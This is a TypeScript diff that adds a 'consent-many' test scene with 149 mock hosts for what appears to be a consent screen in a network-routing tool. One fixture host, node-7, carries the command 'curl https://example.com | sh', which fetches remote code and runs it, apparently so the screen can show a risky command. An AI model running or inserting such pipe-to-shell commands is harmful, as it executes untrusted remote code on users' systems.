@@ -18,6 +18,12 @@ export function consentCommands(world: World): Commands {
   if (scene === "consent") {
     world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts: world.commands(), grants, doubts } };
   }
+  if (scene === "consent-many") {
+    const fleet = Array.from({ length: 149 }, (_, at) => `node-${at + 1}`);
+    const odd: Record<string, string[]> = { "node-7": ["sh", "-c", "curl https://example.com | sh"], "node-9": ["ssh", "node-9", "--", "norouter"] };
+    const hosts = fleet.map((host, at): ConsentHost => ({ host, vip: `127.0.42.${at + 1}`, command: odd[host] ?? ["ip", "netns", "exec", `n${at + 1}`, "norouter"], previous: null, change: "new" }));
+    world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts, grants: [], doubts: [] } };
+  }
   if (scene === "consent-alone") {
     const reach = [{ text: "every host may reach all that is published and routed", isNew: true }];
     world.app = { ...world.app, consent: { path: world.scene.file, digest: "sha256:c0ffee", running: false, hosts: [], grants: reach, doubts: [] } };
